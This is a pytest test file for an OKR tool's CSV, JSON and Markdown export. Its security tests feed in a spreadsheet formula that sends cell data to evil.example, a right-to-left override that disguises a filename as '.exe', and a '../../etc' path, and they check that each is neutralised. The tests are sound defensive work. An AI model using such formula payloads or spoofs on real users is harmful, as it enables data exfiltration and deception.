"""`okrtui export`: CSV read back value by value, JSON against its schema, Markdown golden."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest

from okrtui.cli.main import main
from okrtui.services.export_json import json_schema
from okrtui.services.export_tables import CHECKIN_COLUMNS, KEY_RESULT_COLUMNS
from okrtui.services.progress import clamp, kr_progress, progress_of_value
from okrtui.store import WorkspaceStore

GOLDEN = Path(__file__).parents[1] / "fixtures" / "export" / "report-2026-Q4.md"
TODAY = "2026-11-25"
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    raw = path.read_bytes()
    raw.decode("utf-8")  # strict: the whole file is UTF-8
    assert not raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def _number(text: str) -> float | None:
    return None if text == "" else float(text)


def test_csv_tables_match_the_sample_workspace_value_by_value(
    sample_workspace: Path, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    assert main(["export", str(sample_workspace), "--format", "csv", "-o", str(out)]) == 0
    store = WorkspaceStore.open(sample_workspace)
    header, rows = _read(out / "key_results.csv")
    assert tuple(header) == KEY_RESULT_COLUMNS
    expected = {(o.id, kr.id) for o in store.objectives.values() for kr in o.key_results}
    assert {(r["objective_id"], r["key_result_id"]) for r in rows} == expected
    assert len(rows) == len(expected)
    for row in rows:
        objective = store.objectives[row["objective_id"]]
        kr = objective.key_result(row["key_result_id"])
        assert kr is not None
        assert row["cycle"] == objective.cycle
        assert row["objective_title"] == objective.title  # Persian as stored
        assert row["key_result_title"] == kr.title
        assert row["level"] == objective.level.value
        assert row["owner"] == (kr.owner or objective.owner)
        assert row["parent_objective"] == (objective.parent or "")
        assert row["metric_type"] == kr.metric.type.value
        assert row["unit"] == kr.metric.unit
        assert _number(row["start"]) == kr.metric.start
        assert _number(row["target"]) == kr.metric.target
        assert _number(row["current"]) == kr.current_value()
        progress = kr_progress(kr)
        assert _number(row["progress"]) == (None if progress is None else round(progress, 4))
        assert _number(row["score"]) == (None if progress is None else round(clamp(progress), 4))
        assert row["health"] in {"on_track", "no_data", "at_risk", "off_track"}
        assert set(row["smart_holding"]) <= set("SMART")
        for column in ("start", "target", "current", "progress", "score", "confidence"):
            assert row[column] == "" or PLAIN_NUMBER.fullmatch(row[column]), (column, row)
        assert ISO_DATE.fullmatch(row["due"])
    traffic = next(r for r in rows if r["key_result_id"] == "blog-traffic")
    assert (traffic["start"], traffic["target"], traffic["current"]) == ("30000", "39000", "38100")
    assert traffic["progress"] == "0.9"

    header, checkins = _read(out / "checkins.csv")
    assert tuple(header) == CHECKIN_COLUMNS
    stored = [
        (o.id, kr.id, c)
        for o in store.objectives.values()
        for kr in o.key_results
        for c in kr.checkins
    ]
    assert len(checkins) == len(stored) > 0
    by_key = {(r["objective_id"], r["key_result_id"], r["date"]): r for r in checkins}
    for objective_id, kr_id, checkin in stored:
        row = by_key[(objective_id, kr_id, checkin.date.isoformat())]
        kr = store.objectives[objective_id].key_result(kr_id)
        assert kr is not None
        assert float(row["value"]) == checkin.value
        assert PLAIN_NUMBER.fullmatch(row["value"])
        assert row["author"] == checkin.author
        assert row["note"] == checkin.note
        assert _number(row["confidence"]) == checkin.confidence
        assert _number(row["progress"]) == round(progress_of_value(kr, checkin.value) or 0, 4)
    persian = by_key[("newsletter-fa", "subscribers", "2026-11-23")]
    assert (persian["value"], persian["author"]) == ("10100", "مینا")


def test_csv_needs_a_folder(sample_workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", str(sample_workspace), "--format", "csv"]) == 1
    assert "--output" in capsys.readouterr().err


def test_json_is_valid_against_the_export_schema(
    sample_workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", str(sample_workspace), "--format", "json", "--today", TODAY]) == 0
    document = json.loads(capsys.readouterr().out)
    schema = json_schema("export")
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(document, schema, format_checker=jsonschema.FormatChecker())
    store = WorkspaceStore.open(sample_workspace)
    assert document["settings"]["name"] == store.settings.name
    assert {o["id"] for o in document["objectives"]} == set(store.objectives)
    fa = next(o for o in document["objectives"] if o["id"] == "newsletter-fa")
    subscribers = next(k for k in fa["key_results"] if k["id"] == "subscribers")
    assert subscribers["computed"]["current"] == 10100
    assert subscribers["computed"]["progress"] == pytest.approx((10100 - 8000) / 4000)
    assert len(subscribers["checkins"]) == 8
    assert fa["computed"]["health"] in {"on_track", "no_data", "at_risk", "off_track"}
    # a schema that cannot fail is no test: the same document without a key result's figures
    del subscribers["computed"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema)


def test_markdown_report_matches_the_golden_file(
    sample_workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ["export", str(sample_workspace), "--format", "md", "--today", TODAY]
    assert main(args) == 0
    assert capsys.readouterr().out == GOLDEN.read_text(encoding="utf-8")


def test_markdown_escapes_text_and_strips_bidi_overrides(
    sample_workspace: Path, tmp_path: Path
) -> None:
    # Control characters never load (the model refuses them in one-line fields);
    # bidi overrides do (with a W001 warning) and must not reorder the report.
    path = sample_workspace / "objectives" / "2026-Q4" / "email-ctr.toml"
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace('owner = "Mina"', 'owner = "Mi|na \\u202egnp.exe"', 1),
        encoding="utf-8",
    )
    result = subprocess.run(
        [sys.executable, "-m", "okrtui", "export", str(sample_workspace), "--format", "md"],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert "\u202e" not in result.stdout
    assert "Mi\\|na gnp.exe" in result.stdout


def test_csv_cells_never_run_as_spreadsheet_formulas(
    sample_workspace: Path, tmp_path: Path
) -> None:
    path = sample_workspace / "objectives" / "2026-Q4" / "email-ctr.toml"
    text = path.read_text(encoding="utf-8")
    formula = '=IMPORTXML(CONCAT(\\"https://evil.example/?\\", A2), \\"//a\\")'
    path.write_text(
        text.replace('owner = "Mina"', f'owner = "{formula}"').replace(
            'author = "Mina"', 'author = "+1 Mina"'
        ),
        encoding="utf-8",
    )
    out = tmp_path / "csv"
    assert main(["export", str(sample_workspace), "--format", "csv", "-o", str(out)]) == 0
    _, rows = _read(out / "key_results.csv")
    owners = {r["owner"] for r in rows if r["objective_id"] == "email-ctr"}
    assert owners == {"'" + formula.replace('\\"', '"')}
    _, checkins = _read(out / "checkins.csv")
    authors = {r["author"] for r in checkins if r["objective_id"] == "email-ctr"}
    assert authors == {"'+1 Mina"}


def test_unknown_cycle_is_one_line(
    sample_workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", str(sample_workspace), "--cycle", "../../etc"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no cycle named" in err
